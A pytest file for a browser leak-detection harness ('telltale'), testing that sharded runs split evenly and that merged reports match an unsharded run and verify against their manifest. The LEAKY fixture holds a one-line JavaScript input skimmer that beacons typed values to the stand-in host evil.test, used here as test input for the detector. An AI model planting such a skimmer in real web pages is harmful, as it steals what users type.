"""Shards and merge: `telltale run --shard i/n` splits the plan evenly and deterministically, and `telltale merge`
joins the shards' reports into one with the same verdicts as one unsharded run, and a manifest that verifies."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pytest

from harness.cli import ExitStatus, main
from harness.pipeline import RunPlan, Shard
from harness.report.manifest import verify
from harness.run.loader import load_scenarios

SCENARIOS = Path(__file__).resolve().parent.parent / "scenarios"

# Quick scenarios of the bundled set, and a leaky snippet: the merge must carry failed verdicts and their findings.
PICKED = ["home_browse.yaml", "verify_code.yaml"]
LEAKY = "addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);\n"


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = main(list(argv), out, err)
    return status, out.getvalue(), err.getvalue()


def _verdicts(report: Path) -> list[tuple[str, str, str, list[tuple[str, str, str]]]]:
    """Each run's verdict and what leaked where (how many findings depends on typing speed: not compared)."""
    runs = json.loads((report / "results.json").read_text())["runs"]
    return [(r["file"], r["browser"], r["status"], sorted({(f["rule"], f["field"], f["channel"]) for f in r["findings"]}))
            for r in runs]


def test_shards_split_the_plan_evenly_and_the_same_way_each_time() -> None:
    scenarios = load_scenarios([str(SCENARIOS)]).scenarios
    plan = RunPlan(scenarios, ["chromium", "firefox"], None, None, Path("r"))  # type: ignore[arg-type]
    whole = plan.runs()
    shares = []
    for index in (1, 2, 3):
        plan.shard = Shard(index, 3)
        shares.append(plan.runs())
        assert plan.runs() == shares[-1]
    assert sorted(len(share) for share in shares) in ([9, 9, 10], [9, 10, 10], [len(whole) // 3] * 3)
    assert max(len(s) for s in shares) - min(len(s) for s in shares) <= 1
    flat = [(s.file, b) for share in shares for s, b in share]
    assert sorted(flat) == sorted((s.file, b) for s, b in whole) and len(set(flat)) == len(flat)


@pytest.mark.parametrize("text", ["0/3", "4/3", "2", "a/b", "1/0"])
def test_a_bad_shard_is_a_usage_error(text: str) -> None:
    status, _, err = _cli("run", str(SCENARIOS / "home_browse.yaml"), "--shard", text)
    assert status == ExitStatus.INVALID_INPUT
    assert err.strip().endswith(f"expects i/n with 1 <= i <= n (e.g. 2/3), got {text!r}"), err


def test_three_shards_merged_give_the_same_verdicts_as_one_run(tmp_path: Path) -> None:
    folder = tmp_path / "scenarios"
    folder.mkdir()
    for name in PICKED:
        shutil.copy(SCENARIOS / name, folder / name)
    shutil.copytree(SCENARIOS / "site", folder / "site")
    snippet = tmp_path / "leaky.js"
    snippet.write_text(LEAKY)
    common = [str(folder), "--snippet", str(snippet), "--browser", "chromium", "--browser", "firefox",
              "--observation-window", "2"]
    whole_status, out, err = _cli("run", *common, "--report", str(tmp_path / "whole"), "-j", "2")
    assert whole_status == ExitStatus.CHECK_FAILED, out + err
    shard_statuses = []
    for index in (1, 2, 3):
        status, out, err = _cli("run", *common, "--report", str(tmp_path / f"shard{index}"), "--shard", f"{index}/3")
        shard_statuses.append(status)
        assert json.loads((tmp_path / f"shard{index}" / "results.json").read_text())["shard"] == {"index": index,
                                                                                                   "count": 3}
    assert sorted(len(json.loads((tmp_path / f"shard{i}" / "results.json").read_text())["runs"]) for i in (1, 2, 3)) \
        == [1, 1, 2]

    shards = [str(tmp_path / f"shard{i}") for i in (3, 1, 2)]  # in any order
    status, out, err = _cli("merge", *shards, "--report", str(tmp_path / "merged"))
    assert status == ExitStatus.CHECK_FAILED, out + err
    assert "merged 3 report(s): 4 runs" in out
    merged = tmp_path / "merged"
    assert _verdicts(merged) == _verdicts(tmp_path / "whole"), (out, [_verdicts(Path(s)) for s in shards])
    assert any(findings for *_, findings in _verdicts(merged))  # the leak made it through the merge
    check = verify(merged)
    assert check.ok and check.complete and check.files > 4
    assert (merged / "index.html").is_file() and (merged / "junit.xml").is_file()
    for run in json.loads((merged / "results.json").read_text())["runs"]:
        assert (merged / run["dir"] / "traffic.json").is_file()
    junit = (merged / "junit.xml").read_text()
    assert junit.count("<testcase") == 4

    # A missing shard, the same shard twice, a tampered shard: refused, one line each.
    status, _, err = _cli("merge", shards[0], shards[1], "--report", str(tmp_path / "m2"))
    assert status == ExitStatus.INVALID_INPUT and "shard 2/3 missing" in err and len(err.splitlines()) == 1
    status, _, err = _cli("merge", shards[0], shards[0], shards[1], shards[2], "--report", str(tmp_path / "m3"))
    assert status == ExitStatus.INVALID_INPUT and "given twice" in err
    (tmp_path / "shard2" / "results.json").write_text("{}")
    status, _, err = _cli("merge", *shards, "--report", str(tmp_path / "m4"))
    assert status == ExitStatus.INVALID_INPUT and "does not verify against its manifest" in err, err
